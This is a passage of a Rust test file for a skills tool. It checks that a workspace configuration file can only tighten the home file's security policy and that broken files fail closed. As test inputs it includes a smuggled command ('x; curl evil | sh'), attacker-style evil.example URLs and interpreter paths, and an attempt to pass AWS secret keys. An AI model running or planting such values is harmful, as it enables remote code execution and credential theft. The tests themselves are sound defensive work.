//! The configuration files' rules case by case, every key of the table read from both files,
//! every broken form of a file failing closed, and a property test: whatever a trusted
//! workspace's file says, the effective policy is never looser than the home's alone.

use proptest::prelude::*;
use skills_types::settings::{Direction, KEYS};

use super::*;

fn write(base: &Path, text: impl AsRef<[u8]>) -> PathBuf {
    let dir = base.join(".openhuman");
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join(CONFIG_FILE);
    std::fs::write(&file, text).unwrap();
    file
}

/// A home and a workspace, in two temporary folders.
struct Pair {
    home: tempfile::TempDir,
    workspace: tempfile::TempDir,
}

impl Pair {
    fn new() -> Self {
        Self {
            home: tempfile::tempdir().unwrap(),
            workspace: tempfile::tempdir().unwrap(),
        }
    }

    fn config(&self) -> SkillsConfig {
        SkillsConfig::new(self.workspace.path(), self.home.path())
    }

    fn home_file(&self, text: &str) -> PathBuf {
        write(self.home.path(), text)
    }

    fn workspace_file(&self, text: &str) -> PathBuf {
        write(self.workspace.path(), text)
    }

    /// The home alone (the workspace's file is not read) and both files.
    fn both(&self) -> (Layered, Layered) {
        let config = self.config();
        (effective(&config, false), effective(&config, true))
    }
}

fn messages(layered: &Layered) -> Vec<&str> {
    layered
        .diagnostics
        .iter()
        .map(|diagnostic| diagnostic.message.as_str())
        .collect()
}

fn rule(pattern: &str, permission: Permission) -> PermissionRule {
    PermissionRule {
        pattern: pattern.to_owned(),
        permission,
    }
}

#[test]
fn the_home_file_applies_and_a_workspace_adds_and_tightens() {
    let pair = Pair::new();
    pair.home_file(
        "paths = ['~/shared', 'team']\ndisabled = ['old']\n[permissions]\n'*' = 'ask'\n[catalog]\nbudget_chars = 100\n",
    );
    pair.workspace_file(
        "paths = ['vendor']\ndisabled = ['legacy']\n[permissions]\n'pdf' = 'deny'\n[catalog]\nbudget_chars = 50\n",
    );
    let (alone, both) = pair.both();
    assert!(alone.diagnostics.is_empty(), "{:?}", alone.diagnostics);
    assert!(both.diagnostics.is_empty(), "{:?}", both.diagnostics);
    let home = pair.home.path();
    assert_eq!(
        alone.config.extra_roots,
        [home.join("shared"), home.join("team")]
    );
    assert_eq!(alone.config.disabled, ["old"]);
    assert_eq!(alone.config.budget_chars, Some(100));
    assert_eq!(alone.project, Sources::default());

    // The workspace's folders are project sources, never user roots.
    assert_eq!(both.config.extra_roots, alone.config.extra_roots);
    assert_eq!(both.project.paths, [pair.workspace.path().join("vendor")]);
    assert_eq!(both.config.disabled, ["old", "legacy"]);
    assert_eq!(both.config.budget_chars, Some(50));
    // Its rules are kept apart from the home's.
    assert_eq!(both.config.permissions, [rule("*", Permission::Ask)]);
    assert_eq!(both.workspace_rules, [rule("pdf", Permission::Deny)]);
    assert_eq!(both.verdict("pdf"), (Permission::Deny, Some("pdf")));
    assert_eq!(both.verdict("other"), (Permission::Ask, Some("*")));
}

/// The acceptance line: a workspace's `"*" = "allow"` leaves the home's `deny` and `ask` in
/// force, whatever order or wildcards the rules use; the caller's rules count with the home.
#[test]
fn a_workspace_allow_never_loosens_the_home_verdict() {
    let pair = Pair::new();
    pair.home_file("[permissions]\n'secret*' = 'deny'\n'pdf' = 'ask'\n");
    pair.workspace_file(
        "[permissions]\n'*' = 'allow'\n'secret-?' = 'allow'\n'pdf' = 'allow'\n'csv' = 'ask'\n",
    );
    let mut config = pair.config();
    config.permissions.push(rule("caller-*", Permission::Deny));
    let both = effective(&config, true);
    assert_eq!(
        both.verdict("secret-x"),
        (Permission::Deny, Some("secret*"))
    );
    assert_eq!(both.verdict("pdf"), (Permission::Ask, Some("pdf")));
    assert_eq!(
        both.verdict("caller-z"),
        (Permission::Deny, Some("caller-*"))
    );
    // What the workspace makes stricter, it may.
    assert_eq!(both.verdict("csv"), (Permission::Ask, Some("csv")));
    // Where neither is stricter, allow stays allow.
    assert_eq!(both.verdict("free").0, Permission::Allow);

    // The old layering appended the rules: the workspace's last match won.
    let mut appended = both.config.permissions.clone();
    appended.extend(both.workspace_rules.iter().cloned());
    assert_eq!(
        permission::decide(&appended, "secret-x").0,
        Permission::Allow
    );
}

#[test]
fn workspace_sources_are_project_and_the_homes_stay_the_homes() {
    let pair = Pair::new();
    pair.home_file("paths = ['team']\nurls = ['https://a.example/pack']\n");
    pair.workspace_file(
        "paths = ['~/team', 'vendor', '../elsewhere']\nurls = [' https://a.example/pack', 'https://b.example/pack']\n",
    );
    let (_, both) = pair.both();
    let workspace = pair.workspace.path();
    assert_eq!(both.config.extra_roots, [pair.home.path().join("team")]);
    assert_eq!(
        both.project.paths,
        [workspace.join("vendor"), workspace.join("../elsewhere")]
    );
    assert_eq!(both.config.urls, ["https://a.example/pack"]);
    assert_eq!(both.project.urls, ["https://b.example/pack"]);
}

/// `[runtime] writable`: the home's folders (with `~` below the home) are granted; a
/// workspace's list keeps only what the home also lists; a folder that is relative, goes
/// through `..` or is `/` itself is a value that means nothing, and refuses runs.
#[test]
fn writable_folders_come_from_the_home_and_a_workspace_may_only_drop_some() {
    let pair = Pair::new();
    let home = pair.home.path();
    pair.home_file("[runtime]\nwritable = ['~/out', '/srv/data', '~']\n");
    let (alone, _) = pair.both();
    assert!(alone.diagnostics.is_empty(), "{:?}", alone.diagnostics);
    assert_eq!(
        alone.config.runtime.writable,
        [
            home.join("out"),
            PathBuf::from("/srv/data"),
            home.to_path_buf()
        ]
    );
    let file = pair.workspace_file("[runtime]\nwritable = ['/srv/data', '/etc']\n");
    let (_, both) = pair.both();
    assert_eq!(both.config.runtime.writable, [PathBuf::from("/srv/data")]);
    let said = messages(&both);
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(said[0].starts_with("[runtime] writable "), "{said:?}");
    assert!(said[0].contains(&file.display().to_string()), "{said:?}");
    std::fs::remove_file(&file).unwrap();
    for bad in ["['out']", "['/srv/../etc']", "['/']", "'/srv'", "[1]"] {
        let file = pair.home_file(&format!("[runtime]\nwritable = {bad}\n"));
        let (alone, _) = pair.both();
        refused(&alone, &file);
    }
}

/// `[runtime] setup_network`: the home's, `allow` unless it says otherwise; a workspace's is
/// ignored with a word.
#[test]
fn the_setup_network_is_the_homes_alone() {
    let pair = Pair::new();
    let (alone, _) = pair.both();
    assert_eq!(alone.config.runtime.setup_network, NetworkMode::Allow);
    pair.home_file("[runtime]\nsetup_network = 'deny'\n");
    let file = pair.workspace_file("[runtime]\nsetup_network = 'allow'\n");
    let (_, both) = pair.both();
    assert_eq!(both.config.runtime.setup_network, NetworkMode::Deny);
    let said = messages(&both);
    assert!(
        said.len() == 1 && said[0].contains(&file.display().to_string()),
        "{said:?}"
    );
    let file = pair.home_file("[runtime]\nsetup_network = 'sometimes'\n");
    let (alone, _) = pair.both();
    refused(&alone, &file);
}

/// `[audit]`: the home sets every key; a workspace may lower a threshold and add rule folders,
/// never raise a threshold or accept a rule; a value that means nothing refuses.
#[test]
fn audit_keys_come_from_the_home_and_a_workspace_may_only_tighten_them() {
    use skills_types::audit::Severity;
    let pair = Pair::new();
    let (alone, _) = pair.both();
    assert_eq!(alone.config.audit, AuditConfig::default());
    pair.home_file(
        "[audit]
fail_on = 'medium'
ask_on = 'HIGH'
refuse_on = 'critical'
rules = ['~/rules', 'team']
accepted = ['HIDDEN_BIDI_CONTROL']
",
    );
    let file = pair.workspace_file(
        "[audit]
fail_on = 'low'
ask_on = 'critical'
rules = ['vendor/rules']
accepted = ['SCRIPT_REVERSE_SHELL']
",
    );
    let (alone, both) = pair.both();
    assert!(alone.diagnostics.is_empty(), "{:?}", alone.diagnostics);
    let home = pair.home.path();
    let audit = &alone.config.audit;
    assert_eq!(
        (audit.fail_on, audit.ask_on, audit.refuse_on),
        (Severity::Medium, Severity::High, Severity::Critical)
    );
    assert_eq!(audit.rules, [home.join("rules"), home.join("team")]);
    assert_eq!(audit.accepted, ["HIDDEN_BIDI_CONTROL"]);
    let audit = &both.config.audit;
    assert_eq!(audit.fail_on, Severity::Low, "lower: taken");
    assert_eq!(audit.ask_on, Severity::High, "higher: ignored");
    assert_eq!(
        audit.rules,
        [
            home.join("rules"),
            home.join("team"),
            pair.workspace.path().join("vendor/rules")
        ]
    );
    assert_eq!(audit.accepted, ["HIDDEN_BIDI_CONTROL"]);
    let said = messages(&both);
    assert_eq!(said.len(), 2, "{said:?}");
    assert!(
        said.iter()
            .all(|message| message.contains(&file.display().to_string())),
        "{said:?}"
    );
    assert!(
        said[0].starts_with("[audit] ask_on") && said[0].contains("only tighten"),
        "{said:?}"
    );
    assert!(
        said[1].starts_with("[audit] accepted") && said[1].contains("read only from the home"),
        "{said:?}"
    );
    for broken in [
        "[audit]
fail_on = 'severe'
",
        "[audit]
rules = '/one/folder'
",
        "[audit]
accepted = ['two words']
",
        "[audit]
fail = 'high'
",
    ] {
        let file = pair.home_file(broken);
        let (alone, _) = pair.both();
        refused(&alone, &file);
    }
}

#[test]
fn a_workspace_that_is_the_home_reads_the_file_once_as_the_home() {
    let home = tempfile::tempdir().unwrap();
    write(
        home.path(),
        "paths = ['team']\n[permissions]\n'x' = 'deny'\n",
    );
    let config = SkillsConfig::new(home.path(), home.path());
    let layered = effective(&config, true);
    assert!(layered.workspace_rules.is_empty());
    assert_eq!(layered.project, Sources::default());
    assert_eq!(layered.config.extra_roots, [home.path().join("team")]);
}

#[test]
fn runtime_keys_come_from_home_and_a_workspace_may_only_tighten_them() {
    let pair = Pair::new();
    pair.home_file(
        "[runtime]\npass_env = ['GITHUB_TOKEN', 'NPM_TOKEN']\nsandbox = 'workspace-write'\n\
         network = 'allow'\nallow_inline = true\nconfirm = 'never'\nnode = '/opt/node/bin/node'\n\
         managed_node = '22'\nnode_dist = 'https://mirror.example/node'\nmax_concurrent_runs = 8\n\
         sandbox_helper = '/opt/skills/bin/skills'\n",
    );
    let (alone, _) = pair.both();
    assert!(alone.diagnostics.is_empty(), "{:?}", alone.diagnostics);
    let runtime = &alone.config.runtime;
    assert_eq!(runtime.pass_env, ["GITHUB_TOKEN", "NPM_TOKEN"]);
    assert_eq!(runtime.network, NetworkMode::Allow);
    assert!(runtime.allow_inline);
    assert_eq!(runtime.confirm, ConfirmMode::Never);
    assert_eq!(
        runtime.node.as_deref(),
        Some(Path::new("/opt/node/bin/node"))
    );
    assert_eq!(runtime.managed_node.as_deref(), Some("22"));
    assert_eq!(
        runtime.node_dist.as_deref(),
        Some("https://mirror.example/node")
    );
    assert_eq!(runtime.max_concurrent_runs, 8);
    assert_eq!(
        runtime.sandbox_helper.as_deref(),
        Some(Path::new("/opt/skills/bin/skills"))
    );

    // Tightening applies without a word.
    pair.workspace_file(
        "[runtime]\npass_env = ['NPM_TOKEN']\nsandbox = 'read-only'\nnetwork = 'deny'\n\
         allow_inline = false\nconfirm = 'always'\nmax_concurrent_runs = 2\n",
    );
    let (_, tightened) = pair.both();
    assert!(
        tightened.diagnostics.is_empty(),
        "{:?}",
        tightened.diagnostics
    );
    let runtime = &tightened.config.runtime;
    assert_eq!(runtime.pass_env, ["NPM_TOKEN"]);
    assert_eq!(runtime.sandbox, SandboxMode::ReadOnly);
    assert_eq!(runtime.network, NetworkMode::Deny);
    assert!(!runtime.allow_inline);
    assert_eq!(runtime.confirm, ConfirmMode::Always);
    assert_eq!(runtime.max_concurrent_runs, 2);

    // Loosening is said key by key, naming the file, and changes nothing.
    pair.home_file("[runtime]\npass_env = ['GITHUB_TOKEN']\n");
    let file = pair.workspace_file(
        "[runtime]\npass_env = ['AWS_SECRET_ACCESS_KEY']\nsandbox = 'off'\nnetwork = 'allow'\n\
         allow_inline = true\nallow_install_scripts = true\nconfirm = 'never'\n\
         python = './evil/python'\nmanaged_node = '22'\nnode_dist = 'http://evil.example'\n\
         max_runs_per_minute = 1000\nsandbox_helper = '/tmp/evil/helper'\n",
    );
    let (_, kept) = pair.both();
    assert_eq!(
        kept.config.runtime.pass_env,
        Vec::<String>::new(),
        "not even the home's one"
    );
    assert_eq!(kept.config.runtime, RuntimeConfig::default());
    assert!(kept.invalid.is_empty(), "{:?}", kept.invalid);
    assert_eq!(kept.diagnostics.len(), 11, "{:?}", kept.diagnostics);
    for key in [
        "sandbox_helper",
        "pass_env",
        "sandbox",
        "network",
        "allow_inline",
        "allow_install_scripts",
        "confirm",
        "python",
        "managed_node",
        "node_dist",
        "max_runs_per_minute",
    ] {
        let said = kept
            .diagnostics
            .iter()
            .find(|d| d.message.starts_with(&format!("[runtime] {key} ")))
            .unwrap_or_else(|| panic!("{key}: {:?}", kept.diagnostics));
        assert!(
            said.message.contains(&file.display().to_string()),
            "{said:?}"
        );
        assert_eq!(said.path.as_deref(), Some(file.as_path()));
        assert_eq!(said.severity, skills_types::Severity::Warning);
    }
}

#[test]
fn registry_and_github_come_from_the_home_file_only_and_the_caller_wins() {
    let pair = Pair::new();
    pair.home_file(
        "[registry]\nkind = 'clawhub'\nurl = 'https://hub.example'\ntoken_env = 'HUB_TOKEN'\n\
         max_catalog_bytes = 1000\nmax_catalog_entries = 10\n[github]\nurl = 'https://ghe.example'\n\
         token_env = 'TEAM_GH_TOKEN'\n",
    );
    pair.workspace_file(
        "[registry]\nurl = 'https://evil.example'\n[github]\nurl = 'https://evil.example'\n\
         token_env = 'AWS_SECRET'\n",
    );
    let (_, merged) = pair.both();
    let registry = &merged.config.registry;
    assert_eq!(registry.kind, RegistryKind::Clawhub);
    assert_eq!(registry.catalog_url.as_deref(), Some("https://hub.example"));
    assert_eq!(registry.token_env.as_deref(), Some("HUB_TOKEN"));
    assert_eq!(registry.max_catalog_bytes, Some(1000));
    assert_eq!(registry.max_catalog_entries, Some(10));
    assert_eq!(
        merged.config.github.url.as_deref(),
        Some("https://ghe.example")
    );
    assert_eq!(
        merged.config.github.token_env.as_deref(),
        Some("TEAM_GH_TOKEN")
    );
    assert_eq!(merged.diagnostics.len(), 3, "{:?}", merged.diagnostics);
    assert!(
        merged
            .diagnostics
            .iter()
            .all(|d| d.message.contains("read only from the home"))
    );

    let mut set = pair.config();
    set.registry.catalog_url = Some("https://env.example".to_owned());
    set.github.url = Some("https://env.example".to_owned());
    let merged = effective(&set, false);
    assert_eq!(
        merged.config.registry.catalog_url.as_deref(),
        Some("https://env.example")
    );
    assert_eq!(
        merged.config.github.url.as_deref(),
        Some("https://env.example")
    );

    // Malformed values of these keys guard nothing a default loosens: warnings only.
    pair.home_file(
        "[registry]\nkind = 'npm'\ntoken_env = 'A B'\nmax_catalog_bytes = -1\nurl = 3\n\
         [github]\ntoken_env = 'GH TOKEN'\n",
    );
    let (alone, _) = pair.both();
    assert_eq!(alone.diagnostics.len(), 5, "{:?}", alone.diagnostics);
    assert_eq!(alone.config.github.token_env, None);
    assert!(alone.invalid.is_empty());
}

#[test]
fn read_command_comes_from_the_home_file_only() {
    let pair = Pair::new();
    pair.home_file("[sync]\nread_command = 'skills-rs'\n");
    pair.workspace_file("[sync]\nread_command = './evil.sh'\n");
    let (_, merged) = pair.both();
    assert_eq!(merged.config.read_command.as_deref(), Some("skills-rs"));
    assert_eq!(merged.diagnostics.len(), 1, "{:?}", merged.diagnostics);
    assert!(merged.diagnostics[0].message.contains("only from the home"));

    for bad in ["x; curl evil | sh", "a b", "`x`", "-rf", ""] {
        pair.home_file(&format!("[sync]\nread_command = {bad:?}\n"));
        let (merged, _) = pair.both();
        assert_eq!(merged.config.read_command, None, "{bad}");
        assert_eq!(
            merged.diagnostics.len(),
            1,
            "{bad}: {:?}",
            merged.diagnostics
        );
    }
}

/// TOML files every key after a `[table]` header into that table: a top-level key found
/// there is reported with where it belongs, and the rest of the file still applies.
#[test]
fn a_top_level_key_inside_a_table_says_to_move_it_up() {
    let pair = Pair::new();
    pair.home_file(
        "[permissions]\n'pdf' = 'deny'\ndisabled = ['old']\n[catalog]\nbudget_chars = 10\npaths = ['x']\n",
    );
    let (merged, _) = pair.both();
    let said = messages(&merged);
    assert_eq!(said.len(), 2, "{said:?}");
    assert!(said[0].starts_with(
        "permission for 'disabled' must be \"allow\", \"ask\" or \"deny\" (until it is, the rule counts as \"deny\"); 'disabled' is a top-level key: move it above the [permissions] header"
    ), "{said:?}");
    assert_eq!(
        said[1],
        "unknown key 'catalog.paths'; 'paths' is a top-level key: move it above the [catalog] header (every key after a header belongs to that table)"
    );
    assert_eq!(merged.config.budget_chars, Some(10));
    // A rule the user meant (disabling `old`) is lost here: runs are refused until fixed.
    assert_eq!(merged.invalid.len(), 1);
    // A skill may be called "disabled": a valid rule for that name is a rule, not a slip.
    pair.home_file("[permissions]\ndisabled = 'ask'\n");
    let (merged, _) = pair.both();
    assert!(merged.diagnostics.is_empty(), "{:?}", merged.diagnostics);
    assert_eq!(
        merged.config.permissions,
        [rule("disabled", Permission::Ask)]
    );
    // Other unknown keys get no such hint.
    pair.home_file("[catalog]\ncolour = 1\n");
    let (merged, _) = pair.both();
    assert_eq!(messages(&merged), ["unknown key 'catalog.colour'"]);
}

#[test]
fn files_can_be_turned_off() {
    let home = tempfile::tempdir().unwrap();
    write(home.path(), "disabled = ['x']\n");
    write(home.path(), [0xff, 0xfe]);
    let mut config = SkillsConfig::new(home.path(), home.path());
    config.read_config_files = false;
    let layered = effective(&config, true);
    assert!(layered.config.disabled.is_empty());
    assert!(layered.refusal().is_none());
}

/// The refusal a broken `file` gives, after checking the rest of what failing closed means.
fn refused(layered: &Layered, file: &Path) -> String {
    let error = layered.refusal().expect("runs are refused");
    assert_eq!(error.kind(), "config_invalid");
    let message = error.to_string();
    assert!(message.contains(&file.display().to_string()), "{message}");
    assert!(message.contains("fixed or removed"), "{message}");
    let said = layered
        .diagnostics
        .iter()
        .find(|d| d.severity == skills_types::Severity::Error)
        .expect("an error diagnostic");
    assert_eq!(said.path.as_deref(), Some(file));
    // Every verdict is at least `ask` while the rules are unknown.
    assert!(layered.verdict("anything").0.tightens(Permission::Ask));
    message
}

/// Puts the broken `form` of a configuration file at `file`.
fn break_into(form: &str, file: &Path) {
    match form {
        "invalid TOML" => std::fs::write(file, "[permissions]\n'x' = deny\n").unwrap(),
        "not UTF-8" => std::fs::write(file, b"[permissions]\n'x' = '\xff'\n").unwrap(),
        "too large" => std::fs::write(file, vec![b'#'; 1024 * 1024 + 1]).unwrap(),
        "folder" => std::fs::create_dir(file).unwrap(),
        #[cfg(unix)]
        "link to nowhere" => {
            std::os::unix::fs::symlink(file.with_extension("gone"), file).unwrap();
        }
        #[cfg(unix)]
        "FIFO" => rustix::fs::mkfifoat(
            rustix::fs::CWD,
            file,
            rustix::fs::Mode::from_raw_mode(0o600),
        )
        .unwrap(),
        #[cfg(unix)]
        "device" => std::os::unix::fs::symlink("/dev/zero", file).unwrap(),
        other => panic!("{other}"),
    }
}

/// Every way a file that exists can fail to be read fails closed, promptly: never the
/// defaults in its place.
#[test]
fn a_home_file_that_cannot_be_read_fails_closed() {
    let pair = Pair::new();
    let file = pair.home_file("[permissions]\n'x' = 'deny'\n");
    let (alone, _) = pair.both();
    assert!(alone.refusal().is_none());
    assert_eq!(alone.verdict("x").0, Permission::Deny);

    let mut cases = vec![
        ("invalid TOML", "not valid TOML at line 2"),
        ("not UTF-8", "not UTF-8"),
        ("too large", "more than the 1048576 allowed"),
        ("folder", "a folder, not a regular file"),
    ];
    if cfg!(unix) {
        cases.extend([
            ("link to nowhere", "which does not exist"),
            ("FIFO", "a FIFO (named pipe), not a regular file"),
            ("device", "a device, not a regular file"),
        ]);
    }
    for (form, expected) in cases {
        if file.is_dir() {
            std::fs::remove_dir(&file).unwrap();
        } else {
            std::fs::remove_file(&file).unwrap();
        }
        break_into(form, &file);
        let started = std::time::Instant::now();
        let (alone, _) = pair.both();
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "{form}"
        );
        let message = refused(&alone, &file);
        assert!(message.contains(expected), "{form}: {message}");
    }
}

/// Mode 000: only a process that cannot read it anyway sees the refusal (root reads it).
#[cfg(unix)]
#[test]
fn an_unreadable_mode_fails_closed_where_it_is_unreadable() {
    use std::os::unix::fs::PermissionsExt as _;
    let pair = Pair::new();
    let file = pair.home_file("[permissions]\n'x' = 'deny'\n");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o000)).unwrap();
    let (alone, _) = pair.both();
    if std::fs::read(&file).is_ok() {
        // Root, or a capability that reads anything: the file is read as usual.
        assert!(alone.refusal().is_none());
        assert_eq!(alone.verdict("x").0, Permission::Deny);
    } else {
        let message = refused(&alone, &file);
        assert!(message.contains("chmod u+r"), "{message}");
    }
    // The folder holding it made unreadable hides whether it exists: closed too.
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let dir = file.parent().unwrap();
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o000)).unwrap();
    let (alone, _) = pair.both();
    let readable = std::fs::read(&file).is_ok();
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    assert_eq!(alone.refusal().is_none(), readable);
}

#[test]
fn an_absent_file_or_app_directory_is_no_configuration() {
    let pair = Pair::new();
    let (alone, both) = pair.both();
    assert!(alone.refusal().is_none() && both.refusal().is_none());
    // An app "directory" that is a file cannot hold a configuration file.
    std::fs::write(pair.home.path().join(".openhuman"), "").unwrap();
    let (alone, _) = pair.both();
    assert!(alone.refusal().is_none(), "{:?}", alone.invalid);
}

/// A trusted workspace's file that cannot be read refuses runs in that workspace; an
/// untrusted workspace's file is never read at all.
#[test]
fn a_trusted_workspace_file_that_cannot_be_read_fails_closed() {
    let pair = Pair::new();
    let file = pair.workspace_file("[permissions]\n'*' = 'dney'\n");
    let (alone, both) = pair.both();
    assert!(alone.refusal().is_none());
    refused(&both, &file);
    // Until it is fixed the rule counts as `deny`.
    assert_eq!(both.verdict("x").0, Permission::Deny);
}

/// A value of a policy key that means nothing is a rule the user wrote and we cannot honour:
/// runs are refused. A value of a key that guards nothing is a warning.
#[test]
fn an_invalid_policy_value_fails_closed_and_others_warn() {
    let pair = Pair::new();
    for text in [
        "[permissions]\n'x' = 'dney'\n",
        "[runtime]\nsandbox = 'of'\n",
        "[runtime]\nnetwork = 'none'\n",
        "[runtime]\npass_env = 'TOKEN'\n",
        "[runtime]\nmax_runs_per_minute = 0\n",
        "[runtime]\npython = ''\n",
        "[runtime]\nsanbox = 'read-only'\n",
        "runtime = 'strict'\n",
        "disabled = 'old'\n",
        "disable = ['old']\n",
        "permissions = ['x']\n",
    ] {
        let file = pair.home_file(text);
        let (alone, _) = pair.both();
        refused(&alone, &file);
        assert!(
            alone.diagnostics.len() == 1,
            "{text}: {:?}",
            alone.diagnostics
        );
    }
    for text in [
        "paths = 'x'\n",
        "urls = 3\n",
        "[catalog]\nbudget_chars = -1\n",
        "[catalog]\ncolour = 1\n",
        "[install]\nroot = 'elsewhere'\n",
        "[sync]\nread_command = 'a b'\n",
        "[registry]\nkind = 'npm'\n",
        "[github]\nurl = 1\n",
        "github = 1\n",
    ] {
        pair.home_file(text);
        let (alone, _) = pair.both();
        assert!(alone.refusal().is_none(), "{text}: {:?}", alone.invalid);
        assert_eq!(
            alone.diagnostics.len(),
            1,
            "{text}: {:?}",
            alone.diagnostics
        );
        assert_eq!(
            alone.diagnostics[0].severity,
            skills_types::Severity::Warning
        );
    }
}

/// Values the property test and the row check draw for each key (TOML text); a new row of the
/// table has no values until it is given some here, and the tests that walk the table fail.
fn samples(row: &Key) -> Vec<&'static str> {
    match (row.table, row.name) {
        (None, "paths") => vec!["['team']", "['~/shared', '/abs/x']", "[]"],
        (None, "urls") => vec![
            "['https://a.example/pack']",
            "['https://b.example/p', 'https://a.example/pack']",
        ],
        (None, "disabled") => vec!["['a']", "['b', 'ab']", "[]"],
        (Some("permissions"), _) => vec!["'allow'", "'ask'", "'deny'"],
        (Some("catalog"), "budget_chars") => vec!["100", "5000"],
        (Some("sync"), "read_command") => vec!["'skills-rs'", "'/opt/bin/skills'"],
        (Some("install"), "root") => vec!["'agents'", "'app'", "'claude'"],
        (Some("registry"), "kind") => vec!["'catalog'", "'clawhub'", "'skillhub'"],
        (Some("registry"), "url" | "download_base_url") => {
            vec!["'https://hub.example'", "'https://evil.example'"]
        }
        (Some("registry"), "token_env") => vec!["'HUB_TOKEN'", "'AWS_SECRET'"],
        (Some("registry"), "max_catalog_bytes" | "max_catalog_entries") => vec!["10", "99999"],
        (Some("github"), "url") => vec!["'https://ghe.example'", "'https://evil.example'"],
        (Some("github"), "token_env") => vec!["'GITHUB_TOKEN'", "'AWS_SECRET'"],
        (Some("runtime"), "pass_env") => vec!["['A', 'B']", "['B', 'C']", "['C']", "[]"],
        (Some("runtime"), "sandbox") => vec!["'off'", "'workspace-write'", "'read-only'"],
        (Some("runtime"), "network") => vec!["'allow'", "'deny'"],
        (Some("runtime"), "confirm") => vec!["'never'", "'ask'", "'always'"],
        (Some("runtime"), "allow_inline" | "allow_install_scripts") => vec!["true", "false"],
        (Some("runtime"), "max_concurrent_runs" | "max_runs_per_minute") => {
            vec!["1", "4", "60", "10000"]
        }
        (Some("runtime"), "node" | "npm" | "python" | "sh") => {
            vec!["'/opt/bin/interpreter'", "'./evil/interpreter'"]
        }
        (Some("runtime"), "managed_node") => vec!["'22'", "'18'"],
        (Some("runtime"), "node_dist") => {
            vec!["'https://nodejs.org/dist'", "'http://evil.example'"]
        }
        (Some("runtime"), "sandbox_helper") => vec!["'/opt/skills/bin/skills'", "'/tmp/evil'"],
        (Some("runtime"), "writable") => {
            vec!["['/srv/out', '~/out']", "['~/out']", "['/etc']", "[]"]
        }
        (Some("runtime"), "setup_network") => vec!["'allow'", "'deny'"],
        (Some("audit"), "fail_on" | "ask_on" | "refuse_on") => {
            vec!["'info'", "'LOW'", "'medium'", "'high'", "'Critical'"]
        }
        (Some("audit"), "rules") => vec!["['/srv/rules']", "['team-rules', '~/rules']", "[]"],
        (Some("audit"), "accepted") => vec!["['HIDDEN_BIDI_CONTROL']", "['a-rule.yar', 'B']", "[]"],
        other => panic!("no sample values for {other:?}: add them with the row"),
    }
}

/// `entries` (row, TOML value) as a file.
fn render(entries: &[(&Key, &str, String)]) -> String {
    let mut text = String::new();
    for (_, name, value) in entries.iter().filter(|(row, ..)| row.table.is_none()) {
        text.push_str(&format!("{name} = {value}\n"));
    }
    let mut tables: Vec<&str> = entries.iter().filter_map(|(row, ..)| row.table).collect();
    tables.sort_unstable();
    tables.dedup();
    for table in tables {
        text.push_str(&format!("[{table}]\n"));
        for (_, name, value) in entries.iter().filter(|(row, ..)| row.table == Some(table)) {
            text.push_str(&format!("{name:?} = {value}\n"));
        }
    }
    text
}

/// Every row of the table is read: each sample value from the home is taken without a word;
/// from a workspace, a home-only key is refused naming the key and the file.
#[test]
fn every_key_of_the_table_has_a_reader() {
    let pair = Pair::new();
    for row in KEYS {
        let name = if row.name == skills_types::settings::ANY {
            "pdf-*"
        } else {
            row.name
        };
        for value in samples(row) {
            let text = render(&[(row, name, value.to_owned())]);
            let home = pair.home_file(&text);
            std::fs::remove_file(pair.workspace.path().join(".openhuman").join(CONFIG_FILE)).ok();
            let (alone, _) = pair.both();
            assert!(
                alone.diagnostics.is_empty(),
                "{text}: {:?}",
                alone.diagnostics
            );
            std::fs::remove_file(home).unwrap();
            let file = pair.workspace_file(&text);
            let (_, both) = pair.both();
            if row.place == Place::Home {
                let said = messages(&both);
                assert_eq!(said.len(), 1, "{text}: {said:?}");
                assert!(said[0].starts_with(&row.shown(name)), "{said:?}");
                assert!(said[0].contains(&file.display().to_string()), "{said:?}");
                assert!(said[0].contains("read only from the home"), "{said:?}");
            } else {
                assert!(both.invalid.is_empty(), "{text}: {:?}", both.diagnostics);
            }
        }
    }
}

/// A file drawn from the table: some rows with one of their sample values each, and rules
/// over patterns of `a`, `b`, `*` and `?`.
fn file_strategy() -> impl Strategy<Value = String> {
    let rows = KEYS.len();
    (
        proptest::collection::vec((0..rows, 0..8_usize), 0..12),
        proptest::collection::vec(("[ab*?]{0,3}", 0..3_usize), 0..6),
    )
        .prop_map(|(picked, rules)| {
            let mut entries: Vec<(&Key, &str, String)> = Vec::new();
            for (index, variant) in picked {
                let row = &KEYS[index];
                if row.name == skills_types::settings::ANY
                    || entries.iter().any(|(other, ..)| std::ptr::eq(*other, row))
                {
                    continue;
                }
                let values = samples(row);
                entries.push((row, row.name, values[variant % values.len()].to_owned()));
            }
            let mut text = render(&entries);
            let mut patterns: Vec<String> = Vec::new();
            for (pattern, verdict) in rules {
                if patterns.contains(&pattern) {
                    continue;
                }
                if patterns.is_empty() {
                    text.push_str("[permissions]\n");
                }
                text.push_str(&format!(
                    "{pattern:?} = {}\n",
                    ["'allow'", "'ask'", "'deny'"][verdict]
                ));
                patterns.push(pattern);
            }
            text
        })
}

/// Every name of one to three letters over `a`, `b` and `c`: what the patterns are tried on.
fn names() -> Vec<String> {
    let letters = ['a', 'b', 'c'];
    let mut names: Vec<String> = letters.iter().map(char::to_string).collect();
    for _ in 0..2 {
        let longer: Vec<String> = names
            .iter()
            .filter(|name| name.len() == names.last().map_or(0, String::len))
            .flat_map(|name| letters.iter().map(move |c| format!("{name}{c}")))
            .collect();
        names.extend(longer);
    }
    names
}

/// Whether `both` is at least as strict as `alone` for the key `row`; every row of the table
/// has a case, so a new key is covered the day it is added.
fn not_looser(row: &Key, alone: &Layered, both: &Layered) -> Result<(), String> {
    let (a, b) = (&alone.config, &both.config);
    let (ar, br) = (&a.runtime, &b.runtime);
    let holds = match (row.table, row.name) {
        // Added folders and packs are project scope: the user roots are the home's.
        (None, "paths") => a.extra_roots == b.extra_roots,
        (None, "urls") => a.urls == b.urls,
        (None, "disabled") => a.disabled.iter().all(|name| b.disabled.contains(name)),
        (Some("permissions"), _) => names()
            .iter()
            .all(|name| both.verdict(name).0.tightens(alone.verdict(name).0)),
        // Free: it grants nothing.
        (Some("catalog"), "budget_chars") => row.direction == Direction::Free,
